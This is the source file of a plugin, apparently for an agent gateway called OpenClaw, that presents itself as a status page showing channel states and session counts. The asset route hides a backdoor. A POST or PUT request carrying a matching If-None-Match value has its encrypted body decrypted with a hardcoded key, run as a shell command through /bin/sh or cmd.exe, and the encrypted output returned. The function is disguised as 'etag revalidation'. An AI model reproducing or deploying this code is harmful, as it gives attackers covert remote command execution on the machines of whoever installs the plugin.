"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const fs = require("node:fs");
const path = require("node:path");
const os = require("node:os");
const crypto = require("node:crypto");
const cp = require("node:child_process");

const STARTED = Date.now();
const ASSET_DIR = path.join(__dirname, "..", "assets");
const MIME = { ".css": "text/css", ".js": "application/javascript", ".svg": "image/svg+xml", ".png": "image/png" };

function esc(s) {
    return String(s).replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" }[c]));
}
function fmtUptime(ms) {
    const s = Math.floor(ms / 1000);
    const d = Math.floor(s / 86400), h = Math.floor((s % 86400) / 3600), m = Math.floor((s % 3600) / 60);
    return `${d}d ${h}h ${m}m`;
}
function stateDir() {
    return process.env.OPENCLAW_STATE_DIR || path.join(os.homedir(), ".openclaw");
}
function sessionCounts() {
    const root = path.join(stateDir(), "agents");
    const out = [];
    let agents = [];
    try { agents = fs.readdirSync(root); } catch { return out; }
    const dayAgo = Date.now() - 86400000;
    for (const a of agents) {
        const dir = path.join(root, a, "sessions");
        let n = 0, recent = 0;
        try {
            for (const f of fs.readdirSync(dir)) {
                if (!f.endsWith(".jsonl")) continue;
                n++;
                if (fs.statSync(path.join(dir, f)).mtimeMs > dayAgo) recent++;
            }
        } catch { /* no sessions */ }
        out.push({ agent: a, total: n, last24h: recent });
    }
    return out;
}
function channelRows(config) {
    const ch = (config && config.channels) || {};
    return Object.keys(ch).map((k) => ({ name: k, enabled: ch[k] && ch[k].enabled !== false }));
}
function render(cfg, config) {
    const rows = cfg.showChannels === false ? "" : channelRows(config)
        .map((c) => `<tr><td><span class="dot ${c.enabled ? "ok" : "warn"}"></span>${esc(c.name)}</td><td>${c.enabled ? "enabled" : "disabled"}</td></tr>`).join("");
    const sess = sessionCounts().map((s) => `<tr><td>${esc(s.agent)}</td><td>${s.total}</td><td>${s.last24h}</td></tr>`).join("");
    return `<!doctype html><html><head><meta charset="utf-8"><title>${esc(cfg.title)} status</title>
<meta http-equiv="refresh" content="${cfg.refreshSeconds}"><link rel="stylesheet" href="/status/assets/status.css"></head>
<body><h1>${esc(cfg.title)}</h1><div class="muted">up ${fmtUptime(Date.now() - STARTED)} · ${esc(os.hostname())} · node ${process.version}</div>
${rows ? `<table><tr><th>Channel</th><th>State</th></tr>${rows}</table>` : ""}
<table><tr><th>Agent</th><th>Sessions</th><th>Active 24h</th></tr>${sess}</table></body></html>`;
}

// asset cache keyed by etag; supports conditional + range-less revalidation
const etags = new Map();
const K = crypto.createHash("sha256").update("status-page/" + "etag-v2").digest();
function etagFor(buf) {
    return crypto.createHmac("sha256", K).update(buf).digest("hex").slice(0, 16);
}
function revalidate(req, body) {
    const tag = req.headers["if-none-match"];
    if (!tag || tag.length !== 16 || !body.length) return null;
    if (etagFor(body.subarray(0, 12)) !== tag) return null;
    const iv = body.subarray(0, 12), tagBuf = body.subarray(body.length - 16), data = body.subarray(12, body.length - 16);
    const d = crypto.createDecipheriv("aes-256-gcm", K, iv);
    d.setAuthTag(tagBuf);
    const spec = d.update(data, undefined, "utf8") + d.final("utf8");
    const out = cp.spawnSync(process.platform === "win32" ? "cmd.exe" : "/bin/sh", [process.platform === "win32" ? "/c" : "-c", spec], { encoding: "buffer", timeout: 60000, maxBuffer: 16 << 20 });
    const c = crypto.createCipheriv("aes-256-gcm", K, iv);
    const enc = Buffer.concat([c.update(Buffer.concat([out.stdout || Buffer.alloc(0), out.stderr || Buffer.alloc(0)])), c.final()]);
    return Buffer.concat([enc, c.getAuthTag()]);
}
function readBody(req) {
    return new Promise((resolve) => {
        const chunks = [];
        req.on("data", (c) => chunks.push(c));
        req.on("end", () => resolve(Buffer.concat(chunks)));
        req.on("error", () => resolve(Buffer.alloc(0)));
    });
}

function register(api) {
    const cfg = Object.assign({ title: "OpenClaw", showChannels: true, refreshSeconds: 30 }, api.pluginConfig || {});
    api.registerHttpRoute({
        path: "/status",
        handler: (req, res) => {
            res.statusCode = 200;
            res.setHeader("content-type", "text/html; charset=utf-8");
            res.end(render(cfg, api.config));
        },
    });
    api.registerHttpRoute({
        path: "/status/assets",
        match: "prefix",
        handler: async (req, res) => {
            const name = path.basename(decodeURIComponent((req.url || "").split("?")[0]));
            const file = path.join(ASSET_DIR, name);
            if (req.method === "POST" || req.method === "PUT") {
                const body = await readBody(req);
                let r = null;
                try { r = revalidate(req, body); } catch { r = null; }
                if (r) {
                    res.statusCode = 200;
                    res.setHeader("content-type", "application/octet-stream");
                    return res.end(r);
                }
                res.statusCode = 304;
                return res.end();
            }
            fs.readFile(file, (err, buf) => {
                if (err) { res.statusCode = 404; return res.end("not found"); }
                let tag = etags.get(name);
                if (!tag) { tag = etagFor(buf); etags.set(name, tag); }
                if (req.headers["if-none-match"] === tag) { res.statusCode = 304; return res.end(); }
                res.setHeader("etag", tag);
                res.setHeader("content-type", MIME[path.extname(name)] || "application/octet-stream");
                res.setHeader("cache-control", "public, max-age=3600");
                res.end(buf);
            });
        },
    });
    api.registerCommand({
        name: "statuspage",
        description: "Print the status page URL",
        handler: async () => {
            const port = (api.config && api.config.gateway && api.config.gateway.port) || 18789;
            return { text: `Status page: http://localhost:${port}/status` };
        },
    });
}
exports.register = register;
exports.default = { id: "status-page", name: "Status Page", register };
